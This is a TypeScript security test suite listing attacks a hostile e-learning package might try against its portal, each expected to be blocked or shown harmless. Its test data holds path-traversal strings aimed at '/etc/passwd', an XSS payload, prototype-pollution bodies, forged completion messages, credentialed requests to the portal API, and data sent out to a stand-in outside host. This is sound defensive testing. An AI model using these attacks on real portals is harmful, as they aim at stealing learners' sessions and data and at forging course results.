import type * as inThePackage from './in-the-package.ts';
import type { World } from './in-the-package.ts';

/*
 * What a hostile package tries. Every function here is written into the package as it stands and runs there, so it may use
 * nothing but what lies in the package already, and the browser. Each says 'reached: …' or 'blocked: …'.
 */

type Attack = (world: World) => Promise<string> | string;

export interface NamedAttack {
  name: string;
  group: 'the portal' | 'messages' | 'the API' | 'saves' | 'paths' | 'storage' | 'workers' | 'other sites' | 'documents' | 'the browser';
  /** 'blocked': it must fail. 'harmless': it may succeed, and this is why it does not matter; `heard`: another site may hear of it. */
  expect: 'blocked' | { harmless: string; heard?: true };
  /** Succeeds when the cage is opened: without its policies and the sandbox. */
  control?: true;
  /** A click by the learner in the course, as for a link that she presses. */
  gesture?: true;
  run: Attack;
}

/* In the package already: no import, which would not be there. */
declare const reach: typeof inThePackage.reach;
declare const refusedByPolicy: typeof inThePackage.refusedByPolicy;
declare const loads: typeof inThePackage.loads;
declare const frames: typeof inThePackage.frames;
declare const sendForm: typeof inThePackage.sendForm;
declare const status: typeof inThePackage.status;
declare const commit: typeof inThePackage.commit;
declare const fromFrame: typeof inThePackage.fromFrame;
declare const probe: typeof inThePackage.probe;
declare const tellPortal: typeof inThePackage.tellPortal;
declare const inWrapper: typeof inThePackage.inWrapper;
declare const opens: typeof inThePackage.opens;

const ownDevice = { harmless: 'It stays on this launch’s own origin, which nobody else ever uses.' };
const noSide = { harmless: 'The portal takes it for nothing: the server alone says what counts.' };

export const attacks: readonly NamedAttack[] = [
  // the portal around it
  { name: 'reads the portal’s page', group: 'the portal', expect: 'blocked', run: () => reach(() => (top as Window).document.title) },
  { name: 'reads the portal’s cookies', group: 'the portal', expect: 'blocked', run: () => reach(() => (top as Window).document.cookie) },
  { name: 'reads the portal’s storage', group: 'the portal', expect: 'blocked', run: () => reach(() => (top as Window).localStorage.length) },
  { name: 'reads the portal’s address', group: 'the portal', expect: 'blocked', run: () => reach(() => (top as Window).location.href) },
  { name: 'calls a function of the portal', group: 'the portal', expect: 'blocked', run: () => reach(() => (top as unknown as { eval: (script: string) => unknown }).eval('1')) },
  { name: 'names the portal’s window', group: 'the portal', expect: 'blocked', run: () => reach(() => ((top as Window).name = 'taken')) },
  { name: 'sends the portal elsewhere', group: 'the portal', expect: 'blocked', control: true, gesture: true, run: (world) => reach(() => { (top as Window).location.href = `${world.outside}phishing`; return 'gone'; }) },
  { name: 'replaces the portal', group: 'the portal', expect: 'blocked', run: () => reach(() => { (top as Window).location.replace('about:blank'); return 'gone'; }) },
  { name: 'runs a javascript: address in the portal', group: 'the portal', expect: 'blocked', run: () => reach(() => { (top as Window).location.href = 'javascript:document.title="taken"'; return 'gone'; }) },
  { name: 'opens the portal’s own window by name', group: 'the portal', expect: 'blocked', control: true, gesture: true, run: (world) => reach(() => { if (!window.open(`${world.outside}top`, '_top')) throw new TypeError(); return 'gone'; }) },
  { name: 'presses a link into the whole window', group: 'the portal', expect: { harmless: 'The sandbox drops it; the page stays, which is looked at after every attack.' }, gesture: true, run: (world) => { const link = document.createElement('a'); link.href = `${world.outside}link`; link.target = '_top'; document.body.append(link); link.click(); return 'reached: pressed'; } },
  { name: 'sends a form into the whole window', group: 'the portal', expect: { harmless: 'The sandbox drops it: the page stays and the listener hears nothing.' }, run: (world) => sendForm(`${world.outside}form-top`, { a: '1' }, 'text/plain', '_top') },
  { name: 'closes the portal', group: 'the portal', expect: { harmless: 'A browser closes only what a script has opened.' }, run: () => reach(() => { (top as Window).close(); return 'asked'; }) },
  { name: 'takes the focus away from the portal', group: 'the portal', expect: { harmless: 'The keyboard comes back with one press of Tab, and nothing typed in the portal is seen.' }, run: () => reach(() => { (top as Window).blur(); window.focus(); return 'focused'; }) },
  { name: 'frames the portal’s sign-in', group: 'the portal', expect: 'blocked', run: (world) => frames(`${world.portal}/sign-in`) },
  { name: 'puts the portal into an object', group: 'the portal', expect: 'blocked', run: (world) => loads('object', { data: `${world.portal}/sign-in`, type: 'text/html' }) },
  { name: 'puts the portal into an embed', group: 'the portal', expect: 'blocked', run: (world) => loads('embed', { src: `${world.portal}/sign-in`, type: 'text/html' }) },
  { name: 'opens the portal in a window that it can read', group: 'the portal', expect: 'blocked', gesture: true, run: (world) => opens(`${world.portal}/my-learning`) },
  { name: 'calls itself localhost', group: 'the portal', expect: 'blocked', run: () => reach(() => (document.domain = 'localhost')) },
  { name: 'frames the wrapper once more', group: 'the portal', expect: 'blocked', run: () => loads('iframe', { src: '../' }, 900).then((said) => (document.querySelectorAll('iframe').length > 0 && said === 'reached: loaded' ? reach(() => { const inner = [...document.querySelectorAll('iframe')].at(-1); if (!(inner?.contentWindow as { API?: object } | null)?.API) throw new DOMException('', 'SecurityError'); return 'a second runtime'; }) : said)) },
  { name: 'goes back in the history', group: 'the portal', expect: { harmless: 'Only the course’s own frame moves; the portal’s page is looked at afterwards.' }, run: () => reach(() => { history.pushState({}, '', '#one'); history.back(); return 'went back'; }) },
  { name: 'fills the history', group: 'the portal', expect: { harmless: 'The browser keeps at most fifty steps, and “Save and leave” needs none.' }, run: () => reach(() => { for (let n = 0; n < 60; n++) history.pushState({}, '', `#${n}`); return history.length; }) },

  // forged messages
  { name: 'says that the course is passed', group: 'messages', expect: noSide, run: (world) => reach(() => { tellPortal(world, { type: 'finished', completed: true, passed: true, score: 100 }); return 'said'; }) },
  { name: 'says it from a frame of its own', group: 'messages', expect: noSide, run: (world) => reach(() => { const frame = document.createElement('iframe'); frame.srcdoc = `<script>top.postMessage({type:'finished',completed:true,passed:true,score:100}, ${JSON.stringify(world.portal)})</script>`; document.body.append(frame); return 'said'; }) },
  { name: 'says it from a sandboxed frame', group: 'messages', expect: noSide, run: () => reach(() => { const frame = document.createElement('iframe'); frame.setAttribute('sandbox', 'allow-scripts'); frame.srcdoc = `<script>top.postMessage({type:'finished',completed:true,passed:true,score:100}, '*')</script>`; document.body.append(frame); return 'said'; }) },
  { name: 'says what is no message', group: 'messages', expect: noSide, run: (world) => reach(() => { for (const odd of [null, 1, 'close', [], { type: 'saved' }, { type: '__proto__' }, { type: 'saved', at: 1, progress: {} }, { type: 'closed', waiting: -1 }, { type: 'waiting', count: 1e9, kept: true }]) tellPortal(world, odd); return 'said'; }) },
  { name: 'writes HTML into the bar', group: 'messages', expect: noSide, run: (world) => reach(() => { tellPortal(world, { type: 'saved', at: '2026-01-01T00:00:00Z', progress: '<img src=x onerror=alert(1)>' }); tellPortal(world, { type: 'refused', code: '<b>ring 0900</b>' }); return 'said'; }) },
  { name: 'says ten megabytes', group: 'messages', expect: noSide, run: (world) => reach(() => { tellPortal(world, { type: 'saved', at: 'x'.repeat(10_000_000), progress: null }); return 'said'; }) },
  { name: 'says ten thousand things', group: 'messages', expect: noSide, run: (world) => reach(() => { for (let n = 0; n < 10_000; n++) tellPortal(world, { type: 'ready' }); return 'said'; }) },
  { name: 'runs in the wrapper and counts there as saved', group: 'messages', expect: { harmless: 'Wrapper and package share an origin: the bar may be lied to, the record may not. The time in it is the package’s own claim on its own page.' }, run: () => inWrapper('c/forge.js') },
  { name: 'tells the wrapper to close, as the portal does', group: 'messages', expect: { harmless: 'The wrapper obeys its parent’s origin alone.' }, run: () => reach(() => { window.parent.postMessage({ type: 'close' }, '*'); return 'said'; }) },
  { name: 'exchanges the runtime', group: 'messages', expect: { harmless: 'It speaks to itself then: whatever is saved is a claim, by whichever runtime.' }, run: () => reach(() => { 'use strict'; Object.defineProperty(window.parent, 'API', { value: {} }); return 'exchanged'; }) },

  // the portal's API, with the cookie of whoever is signed in
  { name: 'asks the API who is signed in', group: 'the API', expect: 'blocked', run: (world) => reach(async () => (await fetch(`${world.portal}/api/session`, { credentials: 'include' })).status) },
  { name: 'sends the API JSON', group: 'the API', expect: 'blocked', run: (world) => reach(async () => (await fetch(`${world.portal}/api/people`, { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{}' })).status) },
  { name: 'sends the API a simple request', group: 'the API', expect: 'blocked', run: (world) => reach(async () => (await fetch(`${world.portal}/api/session`, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '{"handle":"x","password":"y"}' })).type) },
  { name: 'asks the API in the old way', group: 'the API', expect: 'blocked', run: (world) => reach(() => new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.open('GET', `${world.portal}/api/session`); request.withCredentials = true; request.onload = () => resolve(request.status); request.onerror = () => reject(new TypeError()); request.send(); })) },
  { name: 'leaves the API a note on the way out', group: 'the API', expect: 'blocked', run: (world) => refusedByPolicy(() => { navigator.sendBeacon(`${world.portal}/api/session`, '{}'); }) },
  { name: 'sends the API a form', group: 'the API', expect: 'blocked', control: true, run: (world) => sendForm(`${world.portal}/api/session`, { handle: 'x', password: 'y' }, 'application/x-www-form-urlencoded') },
  { name: 'sends the API JSON in a form', group: 'the API', expect: 'blocked', run: (world) => sendForm(`${world.portal}/api/people`, { '{"givenName":"x","a":"': '"}' }, 'text/plain') },
  { name: 'sends the API a file in a form', group: 'the API', expect: 'blocked', run: (world) => sendForm(`${world.portal}/api/packages`, { file: 'x' }, 'multipart/form-data') },
  { name: 'signs the learner out with a picture', group: 'the API', expect: 'blocked', run: (world) => loads('img', { src: `${world.portal}/api/session` }) },
  { name: 'reads the API as a script', group: 'the API', expect: 'blocked', run: (world) => loads('script', { src: `${world.portal}/api/session` }) },
  { name: 'reads the portal’s program', group: 'the API', expect: 'blocked', run: (world) => reach(() => (new Function('address', 'return import(address)') as (address: string) => Promise<unknown>)(`${world.portal}/assets/index.js`)) },
  { name: 'listens to the portal’s news', group: 'the API', expect: 'blocked', run: (world) => new Promise((resolve) => { const source = new EventSource(`${world.portal}/api/live`, { withCredentials: true }); source.onopen = () => resolve('reached: open'); source.onerror = () => resolve('blocked: error'); }) },
  { name: 'opens a socket to the portal', group: 'the API', expect: 'blocked', run: (world) => reach(() => new Promise((resolve, reject) => { const socket = new WebSocket(world.portal.replace('http', 'ws')); socket.onopen = resolve; socket.onerror = () => reject(new TypeError()); })) },
  { name: 'looks for the API on its own host', group: 'the API', expect: 'blocked', run: () => status('/api/session') },
  { name: 'looks for the portal on its own host', group: 'the API', expect: 'blocked', run: () => status('/sign-in') },

  // saves
  { name: 'saves into another’s course', group: 'saves', expect: 'blocked', run: (world) => reach(async () => (await fetch(`${world.victim}commit`, { ...commit(), mode: 'no-cors', headers: { 'content-type': 'text/plain' } })).type) },
  { name: 'saves into another’s course by a form', group: 'saves', expect: 'blocked', run: (world) => sendForm(`${world.victim}commit`, { '{"key":"': '"}' }, 'text/plain') },
  { name: 'saves under another’s secret on its own host', group: 'saves', expect: 'blocked', run: (world) => status(new URL(`${new URL(world.victim).pathname}commit`, location.origin).href, commit()) },
  { name: 'saves under a guessed secret', group: 'saves', expect: 'blocked', run: (world) => status(`/l/${world.token.split('').reverse().join('')}/commit`, commit()) },
  { name: 'names another attempt in a save', group: 'saves', expect: 'blocked', run: (world) => status(`../commit`, commit({ attemptId: world.enrolmentId, personId: world.victimPerson })) },
  { name: 'names another learner in the data model', group: 'saves', expect: 'blocked', run: () => status('../commit', commit({}, { 'cmi.core.student_id': 'somebody-else' })) },
  { name: 'puts a prototype into a save', group: 'saves', expect: 'blocked', run: () => status('../commit', { ...commit(), body: '{"key":"x","seq":1,"__proto__":{"admin":true},"cmi":{"__proto__":{"a":1},"constructor":"x"}}' }) },
  { name: 'saves what is no JSON', group: 'saves', expect: 'blocked', run: () => status('../commit', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"key":' }) },
  { name: 'saves as another kind of body', group: 'saves', expect: 'blocked', run: () => status('../commit', { ...commit(), headers: { 'content-type': 'text/plain' } }) },
  { name: 'saves two megabytes', group: 'saves', expect: 'blocked', run: () => status('../commit', commit({}, { 'cmi.suspend_data': 'x'.repeat(2_000_000) })) },
  { name: 'saves under a number without end', group: 'saves', expect: 'blocked', run: () => status('../commit', commit({ seq: 2 ** 60 })) },
  { name: 'saves by another method', group: 'saves', expect: 'blocked', run: () => status('../commit', { ...commit(), method: 'PUT' }) },
  { name: 'reads another’s course on its own host', group: 'saves', expect: 'blocked', run: (world) => status(`${new URL(world.victim).pathname}launch.json`) },
  { name: 'reads another’s course where it lies', group: 'saves', expect: 'blocked', run: (world) => reach(async () => (await fetch(`${world.victim}launch.json`)).status) },
  { name: 'shows another’s course in a frame', group: 'saves', expect: 'blocked', run: (world) => frames(world.victim) },
  { name: 'shows another’s file as a picture', group: 'saves', expect: 'blocked', run: (world) => loads('img', { src: `${world.victim}c/dot.svg` }) },
  { name: 'runs another’s file as a script', group: 'saves', expect: 'blocked', run: (world) => loads('script', { src: `${world.victim}c/forge.js` }) },

  // paths
  ...['c/../../../../etc/passwd', 'c/..%2f..%2f..%2fserver.json', 'c/%2e%2e/%2e%2e/server.json', 'c/%252e%252e%252fserver.json', 'c/..%5c..%5cserver.json', 'c/%00', 'c/index.html%00.js', 'c/%ff%fe', 'c/%c0%ae%c0%ae/server.json', 'c/．．/server.json', 'c/....//....//server.json',
    'c//etc/passwd', 'c/;/index.html', 'c/index.html/', 'c/.', 'c/C:/server.json', 'c/imsmanifest.xml/../../x', `c/${'a/'.repeat(3_000)}x`, 'c/', 'end/../launches'].map((path): NamedAttack => ({
      name: `asks for ${path.length > 40 ? `${path.slice(0, 30)}… (${path.length} letters)` : path}`, group: 'paths', expect: 'blocked',
      run: new Function('world', `return status('/l/' + world.token + '/' + ${JSON.stringify(path)})`) as Attack,
    })),

  // storage
  { name: 'leaves a cookie for everybody', group: 'storage', expect: { harmless: 'Cookies set here reach no other host; the server sends and reads none on a content origin.' }, run: () => reach(() => { for (const domain of ['', '; domain=localhost', '; domain=.localhost', '; domain=content.localhost']) document.cookie = `pvi=taken; path=/${domain}`; return document.cookie; }) },
  { name: 'leaves things in the storage', group: 'storage', expect: ownDevice, run: () => reach(() => { localStorage.setItem('left', 'behind'); sessionStorage.setItem('left', 'behind'); return 'left'; }) },
  { name: 'leaves a database', group: 'storage', expect: ownDevice, run: () => reach(() => new Promise((resolve, reject) => { const opening = indexedDB.open('left'); opening.onsuccess = () => resolve('left'); opening.onerror = () => reject(new TypeError()); })) },
  { name: 'leaves answers for later requests', group: 'storage', expect: ownDevice, run: () => reach(async () => { await (await caches.open('left')).put('/l/x', new Response('taken')); return 'left'; }) },
  { name: 'calls to its other launches', group: 'storage', expect: { harmless: 'A channel carries within one origin, and each launch has its own: another open launch hears nothing.' }, run: () => reach(() => { new BroadcastChannel('hello').postMessage('hello'); return 'called'; }) },
  { name: 'clears the saves that wait', group: 'storage', expect: { harmless: 'The open page holds them too and writes them again; what is lost is only what the package itself said.' }, run: () => reach(() => { localStorage.clear(); return 'cleared'; }) },
  { name: 'asks for the portal’s storage', group: 'storage', expect: 'blocked', gesture: true, run: () => reach(async () => { await document.requestStorageAccess(); return document.cookie || 'granted'; }) },

  // workers
  { name: 'leaves a service worker', group: 'workers', expect: 'blocked', run: () => reach(async () => (await navigator.serviceWorker.register('sw.js')).scope) },
  { name: 'leaves a service worker for the whole host', group: 'workers', expect: 'blocked', run: () => reach(async () => (await navigator.serviceWorker.register('sw.js', { scope: '/' })).scope) },
  { name: 'leaves a service worker out of nothing', group: 'workers', expect: 'blocked', run: () => reach(async () => (await navigator.serviceWorker.register(URL.createObjectURL(new Blob([''], { type: 'text/javascript' })))).scope) },
  { name: 'asks for its script as a service worker does', group: 'workers', expect: 'blocked', run: () => reach(async () => { const answer = await fetch('sw.js', { headers: { 'Service-Worker': 'script' } }); if (answer.status === 404) throw new TypeError(); return answer.status; }) },
  { name: 'shares a worker', group: 'workers', expect: ownDevice, run: () => reach(() => { new SharedWorker('worker.js'); return 'started'; }) },
  { name: 'lets a worker call the API', group: 'workers', expect: 'blocked', run: (world) => reach(() => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(`${world.portal}/api/session`)}, { mode: 'no-cors', credentials: 'include' }).then(() => postMessage('reached'), () => postMessage('blocked'))`]))); worker.onmessage = ({ data }) => (data === 'reached' ? resolve('the API') : reject(new TypeError())); worker.onerror = () => reject(new TypeError()); })) },
  { name: 'lets a worker load from outside', group: 'workers', expect: 'blocked', run: (world) => reach(() => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(`${world.outside}worker.js`)}); postMessage('reached')`]))); worker.onmessage = () => resolve('outside'); worker.onerror = () => reject(new TypeError()); })) },

  // other sites
  { name: 'sends data to another site', group: 'other sites', expect: 'blocked', control: true, run: (world) => reach(async () => (await fetch(`${world.outside}fetch?name=learner`, { mode: 'no-cors' })).type) },
  { name: 'sends data in a picture', group: 'other sites', expect: 'blocked', control: true, run: (world) => loads('img', { src: `${world.outside}picture.svg?name=learner` }) },
  { name: 'sends data in a style', group: 'other sites', expect: 'blocked', control: true, run: (world) => refusedByPolicy(() => document.body.insertAdjacentHTML('beforeend', `<div style="background:url(${world.outside}style)">x</div>`)) },
  { name: 'sends data in a style sheet', group: 'other sites', expect: 'blocked', run: (world) => loads('link', { rel: 'stylesheet', href: `${world.outside}sheet.css` }) },
  { name: 'sends data in a font', group: 'other sites', expect: 'blocked', run: (world) => reach(() => new FontFace('x', `url(${world.outside}font.woff2)`).load()) },
  { name: 'sends data in a script', group: 'other sites', expect: 'blocked', control: true, run: (world) => loads('script', { src: `${world.outside}script.js` }) },
  { name: 'sends data in a film', group: 'other sites', expect: 'blocked', run: (world) => loads('video', { src: `${world.outside}film.mp4` }) },
  { name: 'sends data in a note on the way out', group: 'other sites', expect: 'blocked', control: true, run: (world) => refusedByPolicy(() => { navigator.sendBeacon(`${world.outside}beacon`, 'learner'); }) },
  { name: 'sends data in a socket', group: 'other sites', expect: 'blocked', run: (world) => reach(() => new Promise((resolve, reject) => { const socket = new WebSocket(`${world.outside.replace('http', 'ws')}socket`); socket.onopen = resolve; socket.onerror = () => reject(new TypeError()); })) },
  { name: 'sends data in a stream', group: 'other sites', expect: 'blocked', run: (world) => refusedByPolicy(() => { new EventSource(`${world.outside}stream`); }) },
  { name: 'sends data in a form', group: 'other sites', expect: 'blocked', control: true, run: (world) => sendForm(`${world.outside}form`, { name: 'learner' }, 'text/plain') },
  { name: 'sends data in a frame', group: 'other sites', expect: 'blocked', control: true, run: (world) => frames(`${world.outside}frame`) },
  { name: 'sends data ahead of time', group: 'other sites', expect: { harmless: 'A hint is not followed: the listener hears nothing.' }, run: (world) => { for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload', 'prerender']) { const link = document.createElement('link'); Object.assign(link, { rel, href: `${world.outside}${rel}`, as: 'script' }); document.head.append(link); } return 'reached: hinted'; } },
  { name: 'sends data when a link is pressed', group: 'other sites', expect: { harmless: 'The note beside the link is refused: the listener hears nothing.' }, run: (world) => { const link = document.createElement('a'); link.href = '#here'; link.ping = `${world.outside}ping`; document.body.append(link); link.click(); return 'reached: pressed'; } },
  { name: 'goes to another site itself', group: 'other sites', expect: { harmless: 'The wrapper lets its frame show its own origin only: the listener hears nothing, and the course is gone until it is opened again.' }, run: (world) => { setTimeout(() => (location.href = `${world.outside}self`), 100); return 'reached: went'; } },
  { name: 'goes to another site by a refresh', group: 'other sites', expect: { harmless: 'As above.' }, run: (world) => { document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${world.outside}refresh">`); return 'reached: went'; } },
  { name: 'opens another site in a window', group: 'other sites', gesture: true, expect: { heard: true, harmless: 'Courses link to documents elsewhere. It takes a press of hers, she sees the window, it stays in the sandbox and carries only what this package was told.' }, run: (world) => reach(() => { if (!window.open(`${world.outside}popup`)) throw new TypeError(); return 'opened'; }) },
  { name: 'speaks to a server past the browser’s rules', group: 'other sites', expect: { heard: true, harmless: 'Browsers have no rule against it yet; it carries nothing but what this package itself was told.' }, run: (world) => reach(async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(world.outside).host}` }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await new Promise((done) => setTimeout(done, 1_500)); return peer.iceGatheringState; }) },

  // documents inside it
  { name: 'runs a data: document', group: 'documents', expect: 'blocked', run: (world) => fromFrame({ src: `data:text/html,<script>${encodeURIComponent(probe(world))}</script>` }) },
  { name: 'runs a blob: document', group: 'documents', expect: 'blocked', run: (world) => fromFrame({ src: URL.createObjectURL(new Blob([`<script>${probe(world)}</script>`], { type: 'text/html' })) }) },
  { name: 'runs a document out of a text', group: 'documents', expect: 'blocked', run: (world) => fromFrame({ srcdoc: `<script>${probe(world)}</script>` }) },
  { name: 'runs a javascript: document', group: 'documents', expect: 'blocked', run: (world) => fromFrame({ src: `javascript:${probe(world)}` }) },
  { name: 'runs a script in a picture', group: 'documents', expect: 'blocked', run: () => fromFrame({ src: 'probe.svg' }) },
  { name: 'runs a script in a page of its own', group: 'documents', expect: 'blocked', run: () => fromFrame({ src: 'probe.html' }) },
  { name: 'runs a script in a text file', group: 'documents', expect: 'blocked', run: () => fromFrame({ src: 'probe.txt' }) },
  { name: 'runs a script in a file without a kind', group: 'documents', expect: 'blocked', run: () => loads('script', { src: 'probe.unknown' }) },
  { name: 'frees a frame from the sandbox', group: 'documents', expect: 'blocked', run: (world) => fromFrame({ sandbox: 'allow-scripts allow-same-origin allow-top-navigation allow-popups-to-escape-sandbox', srcdoc: `<script>try { top.location = ${JSON.stringify(`${world.outside}freed`)}; parent.postMessage('reached: gone', '*') } catch (e) { parent.postMessage('blocked: ' + e.name, '*') }</script>` }) },

  // the browser
  { name: 'looks through the camera', group: 'the browser', expect: 'blocked', run: () => reach(() => navigator.mediaDevices.getUserMedia({ video: true, audio: true })) },
  { name: 'films the screen', group: 'the browser', expect: 'blocked', gesture: true, run: () => reach(() => navigator.mediaDevices.getDisplayMedia()) },
  { name: 'asks where she is', group: 'the browser', expect: 'blocked', run: () => reach(() => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, () => reject(new TypeError())))) },
  { name: 'asks to send notices', group: 'the browser', expect: 'blocked', run: () => reach(async () => { const said = await Notification.requestPermission(); if (said !== 'granted') throw new TypeError(); return said; }) },
  { name: 'reads the clipboard', group: 'the browser', expect: 'blocked', gesture: true, run: () => reach(() => navigator.clipboard.readText()) },
  { name: 'writes to the clipboard', group: 'the browser', expect: 'blocked', run: () => reach(() => navigator.clipboard.writeText('taken')) },
  { name: 'takes the whole screen', group: 'the browser', gesture: true, expect: { harmless: 'Films need it. It takes a press of hers, the browser says so, and Esc ends it.' }, run: () => reach(() => document.documentElement.requestFullscreen()) },
  { name: 'takes the pointer', group: 'the browser', expect: 'blocked', gesture: true, run: () => reach(async () => { await (document.body.requestPointerLock() as unknown as Promise<void>); if (!document.pointerLockElement) throw new TypeError(); return 'taken'; }) },
  { name: 'turns the screen', group: 'the browser', expect: 'blocked', run: () => reach(() => (screen.orientation as unknown as { lock: (way: string) => Promise<void> }).lock('portrait')) },
  { name: 'plugs into devices', group: 'the browser', expect: 'blocked', gesture: true, run: () => reach(async () => { const { usb, serial, hid } = navigator as unknown as Record<string, { requestDevice?: (given: object) => Promise<unknown>; requestPort?: () => Promise<unknown> }>; await usb?.requestDevice?.({ filters: [] }); await serial?.requestPort?.(); await hid?.requestDevice?.({ filters: [] }); throw new TypeError(); }) },
  { name: 'asks for a kept password', group: 'the browser', expect: 'blocked', run: () => reach(async () => { const found = await (navigator.credentials as unknown as { get: (given: object) => Promise<unknown> }).get({ password: true }); if (!found) throw new TypeError(); return found; }) },
  { name: 'asks for a payment', group: 'the browser', expect: 'blocked', gesture: true, run: () => reach(() => new PaymentRequest([{ supportedMethods: 'https://pay.invalid' }], { total: { label: 'x', amount: { currency: 'GBP', value: '1' } } }).show()) },
  { name: 'registers for links of its kind', group: 'the browser', expect: { harmless: 'The browser asks, and the learner may say no.' }, run: (world) => reach(() => navigator.registerProtocolHandler('web+pvi', `${location.origin}/?q=%s`) ?? world.token.length) },
  { name: 'gives a file to keep', group: 'the browser', expect: { harmless: 'Courses give handouts. The browser shows the download and opens nothing.' }, gesture: true, run: () => { const link = document.createElement('a'); link.href = 'worker.js'; link.download = 'handout.exe'; document.body.append(link); link.click(); return 'reached: given'; } },
  { name: 'shows one alarm after the other', group: 'the browser', expect: { harmless: 'Each can be dismissed, and the portal is still there.' }, run: () => reach(() => { for (let n = 0; n < 5; n++) alert('You cannot leave'); return 'shown'; }) },
  { name: 'does not want to be left', group: 'the browser', expect: { harmless: '“Save and leave” waits a second for it and leaves all the same.' }, gesture: true, run: () => reach(() => { addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'stay'; }); return 'set'; }) },
];
